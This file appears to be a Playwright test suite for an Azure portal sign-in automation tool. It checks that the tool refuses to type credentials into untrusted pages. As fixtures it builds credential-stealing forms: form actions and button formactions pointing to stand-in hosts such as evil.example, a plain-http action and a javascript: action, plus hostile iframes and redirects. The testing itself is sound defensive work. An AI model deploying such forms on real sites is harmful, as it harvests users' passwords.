import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test as base } from '../../fixtures/index.ts';
import { readConfig } from '../../playbooks/runner/config.ts';
import { placesOf } from '../../playbooks/runner/secret-places.ts';
import { openSession, type Session } from '../../playbooks/runner/session.ts';
import { Identity } from '../../playbooks/runner/sign-in/identity.ts';

const password = 'correct horse battery staple';
const portal = 'https://portal.azure.com';
const signIn = 'https://login.microsoftonline.com';

/** Leads from one host to the next, as pages do. */
const leadTo = (address: string) => `<script>location.replace(${JSON.stringify(address)})</script>`;

/** A sign-in page as it has been for years; what is wrong with it is its form. */
const signInPage = (form: string, button = '') => `
  <form method="post" ${form}>
    <input name="loginfmt"><input name="passwd" type="password"><input id="idSIButton9" type="submit" ${button}>
  </form>`;

interface World {
  session: Session;
  /** What hosts answer with; nothing of it leaves this machine. */
  pages: Record<string, string>;
  /** What reached a host in the body of a request. */
  sent: string[];
}

const test = base.extend<{ world: World }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of fixtures from this pattern
  world: async ({}, use) => {
    const folder = mkdtempSync(join(tmpdir(), 'playbook-wandering-'));
    const config = readConfig({
      flags: {},
      environment: {
        PLAYBOOK_STATE_FOLDER: join(folder, 'state'),
        PLAYBOOK_READ_API_URL: 'off',
        PLAYBOOK_USERNAME: 'dana@fernwood.example',
        PLAYBOOK_PASSWORD: password,
        PLAYBOOK_TIMEOUT_SECONDS: '3',
        ...(process.env['PLAYBOOK_BROWSER'] && { PLAYBOOK_BROWSER: process.env['PLAYBOOK_BROWSER'] }),
      },
      folder,
    });
    const session = await openSession(config, { identity: new Identity(config) });
    const world: World = { session, pages: {}, sent: [] };
    await session.context.route('**/*', async route => {
      const request = route.request();
      world.sent.push(request.postData() ?? '');
      const { origin } = new URL(request.url());
      await route.fulfill({ contentType: 'text/html', body: world.pages[origin] ?? '<h1>Elsewhere</h1>' });
    });
    await use(world);
    await session.close();
  },
});

const forms: [what: string, form: string, button?: string][] = [
  ['a form that is sent to another host', 'action="https://login.evil.example/take"'],
  ['a button that sends the form to another host', `action="${signIn}/next"`, 'formaction="https://evil.example/"'],
  ['a form that is sent without encryption', 'action="http://login.microsoftonline.com/next"'],
  ['a form that runs a script', 'action="javascript:take()"'],
];

for (const [what, form, button] of forms)
  test(`S12: ${what} gets nothing typed, though its page is the sign-in’s`, async ({ world }) => {
    world.pages = { [portal]: leadTo(`${signIn}/authorize`), [signIn]: signInPage(form, button) };

    await expect(world.session.portal.open()).rejects.toMatchObject({ code: 'HOST_NOT_TRUSTED', exitCode: 40 });
    expect(await world.session.portal.page.locator('[name=loginfmt]').inputValue()).toBe('');
    expect(world.sent.join('')).not.toContain(password);
  });

test('S12: the frame around a field counts, not the page around the frame', async ({ world }) => {
  const { page } = world.session.portal;
  world.pages = { [portal]: '<iframe src="https://evil.example/"></iframe>', 'https://evil.example': signInPage('') };
  await page.goto(portal);
  const target = page.frameLocator('iframe').locator('[name=passwd]');
  expect(await placesOf({ target }, 3_000)).toContain('https://evil.example');
});

test('S11: a page that was somewhere else for a moment is not gone on with', async ({ world }) => {
  const { session } = world;
  world.pages = { [portal]: leadTo('https://portal.evil.example/'), 'https://portal.evil.example': leadTo(signIn) };
  await session.portal.page.goto(portal);
  await session.portal.page.waitForURL(`${signIn}/**`);

  expect(() => session.refuseStray()).toThrow(
    expect.objectContaining({ code: 'HOST_NOT_TRUSTED', message: expect.stringContaining('portal.evil.example') }),
  );
  await session.startAfresh();
  expect(() => session.refuseStray()).not.toThrow();
});

test('S11: the way from the portal to its sign-in and back is none of that', async ({ world }) => {
  const { session } = world;
  world.pages = { [portal]: leadTo(signIn), [signIn]: '<h1>Sign in</h1>' };
  await session.portal.page.goto(portal);
  await session.portal.page.waitForURL(`${signIn}/**`);
  expect(() => session.refuseStray()).not.toThrow();
});

test('S12: nobody signs in on the page that only looks', async ({ world }) => {
  world.pages = { [portal]: leadTo(`${signIn}/authorize`), [signIn]: signInPage(`action="${signIn}/next"`) };
  const second = await world.session.portal.secondPage();

  await expect(second.open()).rejects.toMatchObject({ code: 'SIGNED_OUT' });
  expect(await second.page.locator('[name=passwd]').inputValue()).toBe('');
  expect(world.sent.join('')).not.toContain(password);
});
